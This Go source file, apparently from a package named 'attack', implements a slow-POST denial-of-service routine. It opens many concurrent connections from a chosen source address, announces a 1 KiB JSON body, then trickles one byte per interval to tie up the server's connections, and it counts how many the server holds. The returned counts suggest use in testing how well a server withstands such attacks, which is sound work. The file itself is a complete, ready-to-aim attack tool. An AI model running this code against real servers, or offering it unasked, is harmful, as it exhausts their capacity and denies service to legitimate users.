package attack

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
	"time"
)

// ClientFrom returns an HTTP client whose connections come from src.
func ClientFrom(src netip.Addr) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: src.AsSlice()}}
	return &http.Client{Transport: &http.Transport{DialContext: d.DialContext, MaxIdleConnsPerHost: 64}}
}

// SlowBody opens n connections from src to target, sends each a POST whose body is
// announced as 1 KiB, then one byte of it every interval, until ctx ends.
// It returns how many connections the server still held at the end and
// the most it held at once past the first interval.
func SlowBody(ctx context.Context, src netip.Addr, target netip.AddrPort, path string, n int, interval time.Duration) (held, most int) {
	var mu sync.Mutex
	cur := 0
	var wg sync.WaitGroup
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			d := net.Dialer{LocalAddr: &net.TCPAddr{IP: src.AsSlice()}}
			c, err := d.DialContext(ctx, "tcp", target.String())
			if err != nil {
				return
			}
			defer c.Close()
			counted := false
			_, err = fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 1024\r\n\r\n{", path, target)
			for err == nil && ctx.Err() == nil {
				sleep(ctx, interval)
				if ctx.Err() != nil {
					break
				}
				// A byte the server will never see the end of; a
				// write error, or a read that sees an answer or the
				// close, means the server hung up.
				if _, err = c.Write([]byte(" ")); err == nil {
					c.SetReadDeadline(time.Now().Add(time.Millisecond))
					var b [1]byte
					if n, rerr := c.Read(b[:]); n > 0 || rerr != nil && !isTimeout(rerr) {
						err = io.EOF
					}
				}
				if err == nil && !counted {
					// Held past the first interval: the server kept it.
					counted = true
					mu.Lock()
					cur++
					most = max(most, cur)
					mu.Unlock()
				}
			}
			mu.Lock()
			if err == nil {
				held++
			}
			if counted {
				cur--
			}
			mu.Unlock()
		}()
	}
	wg.Wait()
	return held, most
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}
